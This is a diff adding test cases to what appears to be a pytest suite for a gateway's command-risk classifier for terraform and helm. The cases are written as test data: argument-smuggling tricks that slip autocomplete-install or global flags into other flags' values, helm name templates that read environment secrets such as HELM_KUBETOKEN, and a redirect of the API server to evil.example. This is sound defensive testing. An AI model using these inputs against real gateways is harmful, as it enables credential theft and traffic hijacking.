@@ -243,8 +243,47 @@ PRINTED = [
     ("helm list --debug", E),
 ]
 
+# Round 32b finding 1: terraform's CLI library (mitchellh/cli) acts on its
+# autocomplete words wherever they stand before `--`, even as another flag's value,
+# and edits the gateway user's shell rc files; so the gateway, in every word.
+SCANNED = [
+    ("terraform plan -var -install-autocomplete", A),
+    ("terraform plan -lock-timeout -install-autocomplete", A),
+    ("terraform state list -id --uninstall-autocomplete", A),
+    ("terraform plan -var=-install-autocomplete", A),
+    ("terraform plan -var ---install-autocomplete=1", A),
+    ("terraform plan -- -uninstall-autocomplete", A),  # after `--` too: fail closed
+    ("terraform plan -install-autocomplete", U),  # not a flag of plan's
+    ("terraform plan -var -help", R),  # help only prints
+    ("terraform plan -var -version", R),
+    ("terraform plan -var x=install-autocomplete", R),
+]
 
-@pytest.mark.parametrize(("line", "risk"), ELSEWHERE + CREDENTIALS + EVERY_WORD + PRINTED)
+# Round 32b finding 3: helm renders `--name-template` with sprig's whole function map,
+# `env` and `expandenv` included: a template reads the gateway's environment.
+TEMPLATES = [
+    ("helm template chart --name-template '{{ env \"HELM_KUBETOKEN\" }}'", A),
+    ("helm template chart --name-template='{{- expandenv \"$HOME\" -}}'", A),
+    ("helm install chart --name-template x{{.}} -g", A),
+    ("helm upgrade api chart -i --name-template={{", A),
+    ("helm template chart --name-template api-1", R),
+    ("helm template chart --name-template 'a{b}c'", R),
+    ("helm template chart --set name={{env}}", R),  # values are not templates
+    ("helm version --template {{.Version}}", R),  # text/template without sprig
+    # helm first parses its whole argv with only its global flags, unknown ones let
+    # through (a value starting with `-` is not taken), so a subcommand flag's value
+    # written `--kube-apiserver=…` sets the global there.
+    ("helm template chart --set --kube-apiserver=https://evil.example", U),
+    ("helm template chart --description --kubeconfig=/tmp/k", U),
+    ("helm template chart --set -n", U),
+    ("helm template chart --set a=-1", R),  # attached: one word to both parses
+    ("helm template chart -n --debug", R),  # a global's value: taken by both
+]
+
+
+@pytest.mark.parametrize(
+    ("line", "risk"), ELSEWHERE + CREDENTIALS + EVERY_WORD + PRINTED + SCANNED + TEMPLATES
+)
 def test_builtin_tools_are_parsed_as_the_tools_parse_them(line: str, risk: RiskClass) -> None:
     verdict = classify_argv(shlex.split(line), SETS)
     assert verdict.risk is risk, verdict.reasons
